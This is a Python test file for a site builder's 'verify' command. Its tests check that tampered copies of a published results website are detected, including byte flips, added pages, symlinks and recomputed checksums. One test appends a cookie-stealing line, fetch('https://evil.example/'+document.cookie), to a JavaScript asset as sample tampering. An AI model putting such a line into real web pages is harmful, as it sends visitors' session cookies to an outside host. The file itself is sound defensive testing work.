"""verify checks every published byte (issue 24, point 6; issue 25, the saved copy).

Chokepoint: `commands/verify.verify` over the files the ledger entries record (`files` per year,
`site_files` for the rest, `record/ledger.split_files`), with `_walk` naming every symlink.
Property: any single-byte change, added file, removed file or symlink anywhere in a copy of the
latest or an older publication (its SHA256SUMS redone or not) is named, exit 1; an untouched copy,
also one saved with `wget -i files.txt`, passes.
"""

from __future__ import annotations

import hashlib
import os
import shutil
import subprocess
from pathlib import Path

import pytest
from hypothesis import HealthCheck, example, given, settings
from hypothesis import strategies as st
from support.browser import serve
from support.ledger import FIRST, correction, set_item, write_corrections
from support.mini import approved_mini
from support.project import in_process as _in_process

MARKER = ".site-builder-output"


def verify(site: Path, root: Path):
    return _in_process("verify", str(site), "--root", str(root))


def redo_sums(site: Path) -> None:
    """What an attacker does after a change: SHA256SUMS made consistent with the files again."""
    lines = []
    for p in sorted(site.rglob("*")):
        rel = p.relative_to(site).as_posix()
        if p.is_file() and not p.is_symlink() and rel != "SHA256SUMS":
            lines.append(f"{hashlib.sha256(p.read_bytes()).hexdigest()}  {rel}\n")
    (site / "SHA256SUMS").write_text("".join(lines), encoding="utf-8")


@pytest.fixture(scope="module")
def published(tmp_path_factory):
    """(root, old, latest): a project published twice (a correction the second time), a copy of its
    first publication (`old`) and of its second (`latest`)."""
    base = tmp_path_factory.mktemp("every-byte")
    root = approved_mini(base)
    assert _in_process("build", "--root", str(root), "--publish", "--jobs", "1").code == 0
    old = base / "old"
    shutil.copytree(root / "output", old)
    set_item(root, "P01", "1-02", 1)
    write_corrections(root, FIRST)
    assert _in_process("build", "--root", str(root), "--publish", "--jobs", "1").code == 0
    latest = base / "latest"
    shutil.copytree(root / "output", latest)
    return root, old, latest


def _copy(site: Path, dest: Path) -> Path:
    if dest.exists():
        shutil.rmtree(dest)
    shutil.copytree(site, dest, symlinks=True)
    return dest


def _files(site: Path) -> list[str]:
    return sorted(p.relative_to(site).as_posix() for p in site.rglob("*") if p.is_file())


def _dirs(site: Path) -> list[str]:
    return sorted(p.relative_to(site).as_posix() for p in site.rglob("*") if p.is_dir())


@st.composite
def tamperings(draw, files: list[str], dirs: list[str]):
    kind = draw(st.sampled_from(["byte", "add", "remove", "link_file", "link_dir"]))
    if kind == "byte":
        # the marker, the tool's manifest of what it wrote (storage/outdir.py), included: a copy need
        # not hold it, but one it holds must be exactly what the tool wrote (hosts serve it)
        target = draw(st.sampled_from(files))
        return kind, target, draw(st.integers(0, 10**9)), draw(st.integers(1, 255)), draw(st.booleans())
    if kind == "add":
        folder = draw(st.sampled_from(["", *dirs]))
        name = draw(st.sampled_from(["extra.html", "notice.pdf", "a.js", ".hidden"]))
        return kind, f"{folder}/{name}".lstrip("/"), 0, 0, draw(st.booleans())
    if kind == "remove":
        return kind, draw(st.sampled_from([f for f in files if f != MARKER])), 0, 0, draw(st.booleans())
    if kind == "link_file":
        return kind, draw(st.sampled_from([f for f in files if f != "SHA256SUMS"])), 0, 0, draw(st.booleans())
    return kind, draw(st.sampled_from(dirs)), 0, 0, draw(st.booleans())


def tamper(site: Path, outside: Path, change) -> str:
    """Apply one change to the copy; returns the path verify must name."""
    kind, rel, at, xor, redo = change
    path = site / rel
    if kind == "byte":
        data = bytearray(path.read_bytes() or b"\0")
        data[at % len(data)] ^= xor
        path.write_bytes(bytes(data))
    elif kind == "add":
        if path.exists():
            rel += ".new"
            path = site / rel
        path.write_text("<p>added</p>", encoding="utf-8")
    elif kind == "remove":
        path.unlink()
    elif kind == "link_file":  # the same bytes, through a symlink to a file outside the site
        target = outside / "linked-file"
        target.write_bytes(path.read_bytes())
        path.unlink()
        path.symlink_to(target)
    else:  # a folder replaced by a symlink to an identical folder outside the site
        target = outside / "linked-dir"
        if target.exists():
            shutil.rmtree(target)
        shutil.move(str(path), str(target))
        path.symlink_to(target, target_is_directory=True)
    if redo and rel != "SHA256SUMS":  # SHA256SUMS redone after its own change would undo the change
        redo_sums(site)
    return rel


def _named(result, rel: str) -> bool:
    return any(line.startswith(f"  {rel}: ") for line in result.err.splitlines())


@pytest.mark.parametrize("which", ["old", "latest"])
def test_any_single_change_anywhere_is_named(published, tmp_path_factory, which):
    root, old, latest = published
    site = old if which == "old" else latest
    files, dirs = _files(site), _dirs(site)
    work = tmp_path_factory.mktemp(f"tamper-{which}")

    @settings(max_examples=12, deadline=None, suppress_health_check=list(HealthCheck))
    @given(tamperings(files, dirs))
    # found by this property: a byte flipped inside results.xlsx's compressed parts (a bad CRC, data
    # that does not inflate) made verify end in a traceback
    @example(("byte", "2023/data/results.xlsx", 28, 1, False))
    @example(("byte", "2023/data/results.xlsx", 46579, 1, False))
    # found by a local random run: SHA256SUMS removed and then redone by the test itself, a change undone
    @example(("remove", "SHA256SUMS", 0, 0, True))
    def check(change):
        copy = _copy(site, work / "copy")
        outside = work / "outside"
        outside.mkdir(exist_ok=True)
        rel = tamper(copy, outside, change)
        result = verify(copy, root)
        assert result.code == 1, (change, result.out)
        assert "Traceback" not in result.err
        assert _named(result, rel), (change, result.err)

    check()


def test_untouched_copies_pass(published):
    root, old, latest = published
    result = verify(old, root)
    assert result.code == 0, result.err
    assert "2023 年度：网站是第 1 次发布时的副本（仓库已有 2 次发布），已按发布记录核对其文件" in result.out
    result = verify(latest, root)
    assert result.code == 0, result.err
    assert "按仓库数据重新生成的网站与之逐字节相同。" in result.out


def test_a_copy_without_the_marker_passes(published, tmp_path):
    """The output marker is the build's, not a published file: a saved copy need not hold it."""
    root, old, _ = published
    copy = _copy(old, tmp_path / "copy")
    (copy / MARKER).unlink()
    assert verify(copy, root).code == 0


def test_a_manifest_other_than_the_tools_is_named(published, tmp_path):
    """A copy's `.site-builder-output` holding anything but the manifest the tool wrote (any text, a
    hash changed, a file left out or added) is named: hosts serve it like any file (attack report,
    point 18)."""
    root, old, _ = published
    copy = _copy(old, tmp_path / "copy")
    manifest = (copy / MARKER).read_text(encoding="utf-8")
    head = f"错误：核验未通过：{copy} 与发布记录或仓库数据有 1 处不一致：\n"
    (copy / MARKER).write_text("hacked", encoding="utf-8")
    result = verify(copy, root)
    assert (result.code, result.err) == (
        1,
        head + f"  {MARKER}: 这个文件名是本工具的输出清单，但内容不是本工具写出的清单；请删去它，或重新生成网站\n",
    )
    lines = manifest.splitlines(keepends=True)
    index = next(i for i, line in enumerate(lines) if line.endswith("  index.html\n"))
    for changed, named in [
        (lines[:index] + ["0" * 64 + "  index.html\n"] + lines[index + 1 :], "1 个文件：index.html"),
        (lines[:index] + lines[index + 1 :], "1 个文件：index.html"),
        ([*lines, "0" * 64 + "  x.html\n"], "1 个文件：x.html"),
    ]:
        (copy / MARKER).write_text("".join(changed), encoding="utf-8")
        result = verify(copy, root)
        assert (result.code, result.err) == (
            1,
            head + f"  {MARKER}: 本工具的输出清单与网站中的文件不符（{named}）；它被改动过：请删去它，或重新生成网站\n",
        )
    (copy / MARKER).write_text(manifest, encoding="utf-8")
    assert verify(copy, root).code == 0


@pytest.mark.skipif(shutil.which("wget") is None, reason="wget is not installed")
@pytest.mark.parametrize("which", ["old", "latest"])
def test_a_copy_saved_with_wget_and_the_file_list_passes(published, tmp_path, which):
    """The documented one step (docs/verification.md): `wget -x -nH -i <base_url>files.txt`, here
    against a local server standing for the host, the list's addresses pointed at it."""
    root, old, latest = published
    site = old if which == "old" else latest
    base = "https://results.example.gov.cn/kh/"
    served = tmp_path / "host"
    shutil.copytree(site, served / "kh")
    (served / "kh" / MARKER).unlink()  # hosts refuse dotfiles; the list does not name it anyway
    with serve(served) as host:
        local = f"{host}kh/"
        listed = (site / "files.txt").read_text(encoding="utf-8")
        assert all(line.startswith(base) for line in listed.splitlines())
        assert MARKER not in listed
        (tmp_path / "list.txt").write_text(listed.replace(base, local), encoding="utf-8")
        saved = tmp_path / "saved"
        saved.mkdir()
        done = subprocess.run(
            ["wget", "-q", "-x", "-nH", "--restrict-file-names=nocontrol", "-i", str(tmp_path / "list.txt")],
            cwd=saved,
            capture_output=True,
            timeout=120,
            env={**os.environ, "no_proxy": "127.0.0.1"},
        )
        assert done.returncode == 0, done.stderr
    result = verify(saved / "kh", root)
    assert result.code == 0, result.err


# --- the examples ("Verification blind spots"), exact messages -----------------------------


def _lines(result) -> list[str]:
    return result.err.splitlines()[1:]


def test_an_older_copy_with_a_changed_home_page_and_sums_redone(published, tmp_path):
    root, old, _ = published
    copy = _copy(old, tmp_path / "copy")
    page = copy / "index.html"
    page.write_bytes(page.read_bytes().replace(b"</body>", "<p>异议电话 0350-0000000</p></body>".encode()))
    redo_sums(copy)
    result = verify(copy, root)
    assert result.code == 1
    assert _lines(result) == ["  index.html: 文件的 SHA-256 与发布记录（2023 年度）第 1 次发布所记不符"]


def test_an_older_copy_with_a_changed_script_and_an_added_page(published, tmp_path):
    root, old, _ = published
    copy = _copy(old, tmp_path / "copy")
    script = sorted((copy / "assets").glob("*.js"))[0]
    script.write_bytes(script.read_bytes() + b"\nfetch('https://evil.example/'+document.cookie);\n")
    (copy / "2023" / "extra").mkdir()
    (copy / "2023" / "extra" / "index.html").write_text("<p>假公告</p>", encoding="utf-8")
    (copy / "notice.html").write_text("<p>假公告</p>", encoding="utf-8")
    redo_sums(copy)
    result = verify(copy, root)
    assert result.code == 1
    rel = script.relative_to(copy).as_posix()
    assert _lines(result) == [
        "  2023/extra/index.html: 网站有这个文件，但发布记录第 1 次发布中没有",
        f"  {rel}: 文件的 SHA-256 与发布记录（2023 年度）第 1 次发布所记不符",
        "  notice.html: 网站有这个文件，但发布记录（2023 年度）第 1 次发布中没有",
    ]


def test_a_symlinked_folder_in_the_latest_copy(published, tmp_path):
    root, _, latest = published
    copy = _copy(latest, tmp_path / "copy")
    shutil.move(str(copy / "2023" / "institutions"), str(tmp_path / "elsewhere"))
    (copy / "2023" / "institutions").symlink_to(tmp_path / "elsewhere", target_is_directory=True)
    result = verify(copy, root)
    assert result.code == 1
    assert _lines(result)[0] == (
        "  2023/institutions: 这是指向其他位置的符号链接（目录），已发布的网站中只应有普通文件和目录"
    )


def test_a_live_site_with_an_unpublished_correction_is_authentic(published, tmp_path):
    root, _, latest = published
    project = tmp_path / "m"
    shutil.copytree(root, project, symlinks=True)
    set_item(project, "P01", "2-01", 1)
    write_corrections(
        project,
        FIRST,
        correction("2024-02-01", "P01", ["{indicator: 2-01, old: 0.75, new: 1}"], "复核结果：资料齐全"),
    )
    assert _in_process("validate", "--root", str(project)).code == 0
    result = verify(latest, project)
    assert result.code == 0, result.err
    lines = result.out.splitlines()
    assert lines[1].startswith(
        "网站与最近一次发布逐字节相同；仓库中另有尚未发布的改动（下一次 build --publish 时发布），"
        "按仓库数据重新生成的网站与之有 "
    )
    assert "  2023/data/results.json: 机构 P01: total 在网站中为 109.75，按仓库数据应为 110" in lines
